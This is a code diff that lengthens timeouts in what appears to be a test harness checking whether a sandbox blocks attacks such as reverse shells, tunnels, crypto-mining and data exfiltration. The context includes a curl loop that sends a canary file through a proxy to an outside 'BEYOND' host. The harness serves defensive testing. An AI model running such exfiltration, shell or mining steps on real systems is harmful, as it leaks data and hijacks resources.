@@ -58,7 +58,7 @@ function comesIn(port: number, after: number, text: string) {
   return async (_: Outside, canary: string) => {
     await new Promise((resolve) => setTimeout(resolve, after));
     return (
-      (await within(12_000, async () => (await exchange(port, text, canary, 1500)).includes(canary))) ?? false
+      (await within(45_000, async () => (await exchange(port, text, canary, 1500)).includes(canary))) ?? false
     );
   };
 }
@@ -172,7 +172,7 @@ function waitsForShell(
     server.on('tlsClientError', () => {});
     await new Promise<void>((resolve) => server.listen(port, host, resolve));
     return {
-      carried: async () => (await within(8000, () => carried)) ?? false,
+      carried: async () => (await within(30_000, () => carried)) ?? false,
       close: () => server.close(),
     };
   };
@@ -246,7 +246,7 @@ export function shells(): Attack[] {
 
 /** What only the other side of a tunnel reaches must hear the secret. */
 const reachesBeyond = async (outside: Outside, canary: string) =>
-  (await within(8000, () => outside.beyond.some((told) => told.includes(canary)))) ?? false;
+  (await within(30_000, () => outside.beyond.some((told) => told.includes(canary)))) ?? false;
 
 const POST = (proxy: string) =>
   `for i in 1 2 3 4 5 6 7 8; do curl -s -m 3 ${proxy} --data-binary @canary.txt http://${BEYOND}:${PORTS.beyond}/ && break; sleep 0.3; done; sleep 1`;
@@ -290,7 +290,7 @@ export function tunnels(): Attack[] {
 export function mining(): Attack[] {
   const accepted = async (outside: Outside) => {
     const before = outside.pool.accepted;
-    return (await within(12_000, () => outside.pool.accepted >= before + 6)) ?? false;
+    return (await within(45_000, () => outside.pool.accepted >= before + 6)) ?? false;
   };
   const mine = (name: string, port: number, tls: string, rules: readonly string[]): Attack => ({
     name,
